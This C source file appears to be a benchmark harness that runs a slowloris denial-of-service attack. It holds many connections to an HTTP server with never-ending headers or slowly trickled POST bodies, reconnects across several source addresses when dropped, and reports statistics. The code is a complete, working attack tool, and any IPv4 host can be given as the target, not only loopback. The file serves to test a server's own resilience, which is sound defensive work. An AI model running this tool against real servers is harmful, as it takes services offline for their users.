/* SPDX-License-Identifier: Apache-2.0 */
/*
 * slowloris: holds N connections to an HTTP server on loopback the way a slowloris attack
 * does, for bench/slowloris/run.sh (not a test). Each connection sends one byte every GAP
 * ms and never finishes: a header that never ends (X-a: b lines), or, for the given share,
 * a complete POST /v1/enroll header announcing a 60,000-byte body that then trickles. A
 * connection the server closes is opened again one second later, as an attacker would, from
 * the same source address (connections are spread round-robin over the addresses given).
 * At the end it prints what happened; one epoll loop, non-blocking sockets.
 * Usage: slowloris HOST PORT N SECONDS GAP_MS BODY_PERCENT SRC_ADDR...
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define REOPEN_MS 1000

static const char body_head[] = "POST /v1/enroll HTTP/1.1\r\nHost: bench\r\n"
                                "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n";
static const char header_head[] = "GET /healthz HTTP/1.1\r\nHost: bench\r\n";
static const char header_tail[] = "X-a: b\r\n"; /* repeated: the header never ends */

struct sock {
    int fd;      /* -1: closed, reopened at next_ms */
    int body;    /* trickles a body (else a header) */
    size_t sent; /* bytes of the trickle sent so far */
    int64_t next_ms;
    int64_t opened_ms;
    struct in_addr src;
};

struct stats {
    uint64_t opened, connect_failed, closed_by_server, lifetime_ms_sum, open_now, open_max;
};

static int64_t now_ms(void)
{
    struct timespec t;

    (void)clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void sock_open(struct sock *s, int ep, const struct sockaddr_in *dst, struct stats *st)
{
    struct sockaddr_in src = {.sin_family = AF_INET, .sin_addr = s->src};
    struct epoll_event ev = {.events = EPOLLRDHUP | EPOLLIN};
    int one = 1;

    s->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s->fd < 0) {
        st->connect_failed++;
        s->next_ms = now_ms() + REOPEN_MS;
        return;
    }
    (void)setsockopt(s->fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    if (bind(s->fd, (struct sockaddr *)&src, sizeof(src)) != 0 ||
        (connect(s->fd, (const struct sockaddr *)dst, sizeof(*dst)) != 0 && errno != EINPROGRESS)) {
        (void)close(s->fd);
        s->fd = -1;
        st->connect_failed++;
        s->next_ms = now_ms() + REOPEN_MS;
        return;
    }
    ev.data.ptr = s;
    (void)epoll_ctl(ep, EPOLL_CTL_ADD, s->fd, &ev);
    s->sent = 0;
    s->opened_ms = now_ms();
    s->next_ms = s->opened_ms;
    st->opened++;
    if (++st->open_now > st->open_max)
        st->open_max = st->open_now;
}

static void sock_lost(struct sock *s, struct stats *st, int by_server)
{
    int64_t now = now_ms();

    (void)close(s->fd);
    s->fd = -1;
    st->open_now--;
    if (by_server) {
        st->closed_by_server++;
        st->lifetime_ms_sum += (uint64_t)(now - s->opened_ms);
    }
    s->next_ms = now + REOPEN_MS;
}

/* The next byte of s's trickle: the whole opening at once for a body (its header is
 * complete), then one byte per gap. */
static void sock_send(struct sock *s, struct stats *st, int gap_ms)
{
    const char *p;
    size_t n = 1;
    ssize_t w;

    if (s->body) {
        if (s->sent == 0) {
            p = body_head;
            n = sizeof(body_head) - 1;
        } else {
            p = " ";
        }
    } else if (s->sent < sizeof(header_head) - 1) {
        p = header_head + s->sent;
    } else {
        p = header_tail + (s->sent - (sizeof(header_head) - 1)) % (sizeof(header_tail) - 1);
    }
    w = send(s->fd, p, n, MSG_NOSIGNAL);
    if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == ENOTCONN)) {
        s->next_ms = now_ms() + 50; /* still connecting */
        return;
    }
    if (w < 0) {
        sock_lost(s, st, 1);
        return;
    }
    s->sent += (size_t)w;
    s->next_ms = now_ms() + gap_ms;
}

int main(int argc, char **argv)
{
    struct sockaddr_in dst = {.sin_family = AF_INET};
    struct epoll_event evs[256];
    struct stats st = {0};
    struct rlimit rl;
    struct sock *socks;
    int n, secs, gap_ms, body_pct, n_src, ep;
    int64_t end;

    if (argc < 8) {
        (void)fprintf(stderr,
                      "usage: slowloris HOST PORT N SECONDS GAP_MS BODY_PERCENT SRC_ADDR...\n");
        return 2;
    }
    if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1)
        return 2;
    dst.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
    n = (int)strtol(argv[3], NULL, 10);
    secs = (int)strtol(argv[4], NULL, 10);
    gap_ms = (int)strtol(argv[5], NULL, 10);
    body_pct = (int)strtol(argv[6], NULL, 10);
    n_src = argc - 7;
    if (n < 1 || secs < 1 || gap_ms < 1 || body_pct < 0 || body_pct > 100)
        return 2;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
        rl.rlim_cur = rl.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &rl);
    }
    socks = calloc((size_t)n, sizeof(*socks));
    ep = epoll_create1(0);
    if (!socks || ep < 0)
        return 1;
    for (int i = 0; i < n; i++) {
        socks[i].fd = -1;
        socks[i].body = (i % 100) < body_pct;
        if (inet_pton(AF_INET, argv[7 + i % n_src], &socks[i].src) != 1) {
            (void)fprintf(stderr, "slowloris: bad source address '%s'\n", argv[7 + i % n_src]);
            return 2;
        }
        socks[i].next_ms = now_ms() + (int64_t)i * 2000 / n; /* ramp up over 2 s */
    }
    end = now_ms() + (int64_t)secs * 1000;
    while (now_ms() < end) {
        int got = epoll_wait(ep, evs, (int)(sizeof(evs) / sizeof(evs[0])), 20);
        int64_t now;

        for (int i = 0; i < got; i++) {
            struct sock *s = evs[i].data.ptr;
            char buf[512];

            if (s->fd < 0)
                continue;
            /* Anything from the server (an answer, the end, a reset) ends the attack's use
             * of the connection. */
            if (recv(s->fd, buf, sizeof(buf), MSG_DONTWAIT) >= 0 || errno != EAGAIN)
                sock_lost(s, &st, 1);
        }
        now = now_ms();
        for (int i = 0; i < n; i++) {
            if (socks[i].next_ms > now)
                continue;
            if (socks[i].fd < 0)
                sock_open(&socks[i], ep, &dst, &st);
            else
                sock_send(&socks[i], &st, gap_ms);
        }
    }
    (void)printf(
        "slowloris: %d sockets (%d%% bodies) from %d addresses, %d s: opened %llu, "
        "closed by the server %llu (mean life %.1f s), connect failures %llu, open at "
        "the end %llu, most open at once %llu\n",
        n, body_pct, n_src, secs, (unsigned long long)st.opened,
        (unsigned long long)st.closed_by_server,
        st.closed_by_server ? (double)st.lifetime_ms_sum / 1e3 / (double)st.closed_by_server : 0.0,
        (unsigned long long)st.connect_failed, (unsigned long long)st.open_now,
        (unsigned long long)st.open_max);
    return 0;
}
